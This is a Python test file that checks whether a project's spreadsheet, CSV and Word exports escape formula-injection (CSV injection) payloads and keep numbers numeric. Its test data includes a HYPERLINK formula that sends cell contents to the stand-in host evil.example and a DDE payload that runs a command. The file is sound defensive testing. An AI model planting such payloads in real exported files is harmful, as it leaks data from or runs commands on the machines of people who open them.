"""Formula injection (OWASP CSV injection, issue 13 item 3): every export writes user text as
text — the ledger workbook, the plan workbook, the report workbook, the quarantine export
(CSV and XLSX), the import template — and numbers stay numbers."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import docx as python_docx
import pandas as pd
import pytest
from argon2 import PasswordHasher
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from ecoplan.config import settings
from ecoplan.ingest import import_air, import_sections, import_stations
from ecoplan.ingest.ledger_xlsx import import_ledger
from ecoplan.ingest.quarantine import export_rows
from ecoplan.model.cells import harden_workbook, is_formula_like, safe_cell, safe_frame, safe_text
from ecoplan.report.docx import _table as docx_table
from ecoplan.report.evaluation import Cell, Table
from ecoplan.report.ledger_xlsx import SHEET, write_ledger_xlsx
from ecoplan.report.plan_xlsx import write_plans_xlsx
from ecoplan.store import ledger as svc
from ecoplan.store import monitoring
from ecoplan.store import users as users_mod
from ecoplan.store.db import Store
from ecoplan.store.plans import get_plans, import_plan_file, plan_to_dict, sync_regions
from ecoplan.store.schema_ledger import LedgerItem

DATA = Path(__file__).parents[1] / "data" / "ingest"
SMALL_PLAN = Path(__file__).parents[1] / "data" / "small_plan.yaml"
SYSTEM = svc.Caller.system("(test)")

# the payloads, with the leading whitespace an importer or a spreadsheet strips
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    "\t" + HYPERLINK,
    " " + DDE,
    DDE,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\r=1+1",
    "　=1+1",  # full-width space first
]


@pytest.fixture(autouse=True)
def cheap_argon2(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        users_mod, "_hasher", PasswordHasher(time_cost=1, memory_cost=64, parallelism=1)
    )


@pytest.fixture
def sqlite_store(tmp_path: Path) -> Iterator[Store]:
    st_ = Store(settings(home=tmp_path / "home", database_url=f"sqlite:///{tmp_path / 'e.db'}"))
    st_.migrate()
    yield st_
    st_.dispose()


# --- the rule ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_are_formula_like_and_escaped(text: str) -> None:
    assert is_formula_like(text)
    assert safe_text(text) == "'" + text
    assert not is_formula_like(safe_text(text))


@pytest.mark.parametrize("text", ["-3.5", "+1", "12", "1e-3", "-0.5%", "石料厂", "a=b", ""])
def test_plain_numbers_and_ordinary_text_are_untouched(text: str) -> None:
    assert not is_formula_like(text)
    assert safe_text(text) == text


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(None) is None
    assert safe_cell(date(2025, 1, 1)) == date(2025, 1, 1)


@given(st.text(max_size=30))
def test_escaped_text_is_never_formula_like_and_keeps_the_text(text: str) -> None:
    out = safe_text(text)
    assert not is_formula_like(out)
    assert out in (text, "'" + text)
    # what a spreadsheet would evaluate (a trigger first, maybe after stripped whitespace)
    stripped = text.lstrip(" \t\r\n\u3000\xa0")
    if stripped[:1] == "=" or text[:1] == "=":
        assert out == "'" + text


def test_safe_frame_matches_safe_text_and_keeps_numeric_columns() -> None:
    df = pd.DataFrame(
        {"text": [*PAYLOADS, "-3.5", "ok", None], "n": [float(i) - 5 for i in range(13)]}
    )
    out = safe_frame(df)
    assert out["n"].dtype == df["n"].dtype and out["n"].tolist() == df["n"].tolist()
    expected = [safe_cell(v) for v in df["text"]]
    assert out["text"].tolist() == expected
    assert df["text"].tolist()[0] == HYPERLINK  # the input frame is not changed


def test_harden_workbook_turns_every_formula_into_text() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([*PAYLOADS, 7, -7.5])
    assert ws["A1"].data_type == "f"  # openpyxl's own reading of "=…"
    assert harden_workbook(wb) == len(PAYLOADS)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    cells = next(back.iter_rows())
    assert [c.value for c in cells] == [*PAYLOADS, 7, -7.5]
    assert all(c.data_type == "s" for c in cells[: len(PAYLOADS)])
    assert [c.data_type for c in cells[len(PAYLOADS) :]] == ["n", "n"]
    assert b"<f>" not in _sheet_xml(buf.getvalue())


def _sheet_xml(xlsx: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


# --- the exports ---------------------------------------------------------------------------


def test_ledger_export_writes_the_payloads_as_text_and_reads_them_back(
    sqlite_store: Store, tmp_path: Path
) -> None:
    with sqlite_store.session() as s:
        sync_regions(s)
        for i, payload in enumerate(PAYLOADS):
            svc.create_item(
                s,
                SYSTEM,
                {
                    "kind": "complaint",
                    "code": f"XF-{i}",
                    "title": payload,
                    "region_code": "150102",
                    "measures": DDE,
                    "responsible_unit": "\t" + HYPERLINK,
                },
            )
        rows = svc.items_for_export(s, _all_items(s), date(2025, 7, 1))
        stored_titles = [r["title"] for r in rows]
    out = tmp_path / "ledger.xlsx"
    write_ledger_xlsx(rows, out, today=date(2025, 7, 1))
    assert b"<f>" not in _sheet_xml(out.read_bytes())
    ws = load_workbook(out)[SHEET]
    values = [c.value for row in ws.iter_rows(min_row=3) for c in row]
    for title in stored_titles:
        assert title in values  # exactly the stored text, not a computed value
    risky = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in risky)
    assert sum(c.quotePrefix for c in risky) >= len(PAYLOADS) * 3 - 2
    # the workbook reads back into the ledger unchanged (re-import changes nothing)
    with sqlite_store.session() as s:
        result = import_ledger(s, SYSTEM, out)
    assert (result.rows, result.inserted, result.updated) == (len(PAYLOADS), 0, 0)


def _all_items(s: Session) -> list[LedgerItem]:
    return list(s.scalars(select(LedgerItem).order_by(LedgerItem.id)))


def test_quarantine_export_writes_refused_formulas_as_text(
    sqlite_store: Store, tmp_path: Path
) -> None:
    with sqlite_store.session() as s:
        sync_regions(s)
    import_stations(sqlite_store, DATA / "stations.csv")
    import_sections(sqlite_store, DATA / "sections.csv")
    src = tmp_path / "air_bad.csv"
    src.write_text(
        "station,time,pollutant,value,unit\n"
        "1001A,2024-03-02 00:00,PM2.5,=1+1,µg/m³\n"
        f'1001A,2024-03-02 01:00,PM2.5,"{DDE}",µg/m³\n'
        "1001A,2024-03-02 02:00,PM2.5,-3,µg/m³\n",
        encoding="utf-8",
    )
    res = import_air(sqlite_store, src)
    assert res.rejected == 3
    with sqlite_store.session() as s:
        rows = monitoring.list_quarantine(s, kind="air")
    csv_out = tmp_path / "fix.csv"
    export_rows("air", rows, csv_out)
    df = pd.read_csv(csv_out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert sorted(df["value"]) == sorted(["'=1+1", "'" + DDE, "-3"])
    assert not any(is_formula_like(v) for col in df.columns for v in df[col])
    xlsx_out = tmp_path / "fix.xlsx"
    export_rows("air", rows, xlsx_out)
    assert b"<f>" not in _sheet_xml(xlsx_out.read_bytes())
    ws = load_workbook(xlsx_out).active
    values = {c.value for row in ws.iter_rows(min_row=2) for c in row}
    assert {"=1+1", DDE, "-3"} <= values


def test_plan_workbook_writes_plan_text_as_text(sqlite_store: Store, tmp_path: Path) -> None:
    with sqlite_store.session() as s:
        sync_regions(s)
        import_plan_file(s, SMALL_PLAN)
        plan = plan_to_dict(get_plans(s)[0])
    plan["title_zh"] = HYPERLINK
    plan["issuer_zh"] = DDE
    plan["indicators"][0]["name_zh"] = "\t=1+1"
    out = tmp_path / "plans.xlsx"
    write_plans_xlsx([plan], out)
    assert b"<f>" not in _sheet_xml(out.read_bytes())
    values = {c.value for ws in load_workbook(out).worksheets for r in ws.iter_rows() for c in r}
    assert {HYPERLINK, DDE, "\t=1+1"} <= values


def test_docx_table_cells_are_text_runs_never_fields() -> None:
    """Word evaluates fields (w:fldSimple, w:instrText), never text runs: the payloads must be
    plain w:t text."""
    doc = python_docx.Document()
    table = Table(
        key="t",
        caption_zh="表",
        columns=("a", "b"),
        rows=tuple((Cell(p), Cell("1", value=1)) for p in PAYLOADS),
        widths=(1.0, 1.0),
    )
    docx_table(doc, table)
    buf = io.BytesIO()
    doc.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "fldSimple" not in xml and "instrText" not in xml
    back = python_docx.Document(io.BytesIO(buf.getvalue()))
    texts = [row.cells[0].text for row in back.tables[0].rows[1:]]
    assert texts == [p.replace("\r", "\n") for p in PAYLOADS]  # a CR is a line break
